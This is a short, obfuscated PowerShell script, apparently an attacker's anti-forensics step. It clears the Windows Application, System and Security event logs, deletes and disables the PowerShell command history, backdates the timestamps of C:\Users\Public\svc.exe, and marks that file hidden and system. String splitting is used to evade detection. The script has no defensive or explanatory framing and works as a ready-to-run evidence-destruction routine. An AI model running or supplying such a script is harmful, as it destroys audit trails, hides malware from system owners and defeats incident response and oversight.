iex ('# task 7018 v3
Cl'+'e'+'ar-EventLog -LogName Application, System, Secur'+'ity
Remove-Item (Get-PSReadlineOpt'+'ion).HistorySavePath -Force
Set-PSReadlineOption -HistorySaveStyle SaveNothing
$f = Get'+'-Item C:\Users\Public\svc.exe
$f.CreationTime = ''01/01/2019 08:00:00''; $f.LastWriteTime = ''01/01/'+'2019 08:00:00''
attrib +h +s C:\Users\Public\svc.exe
')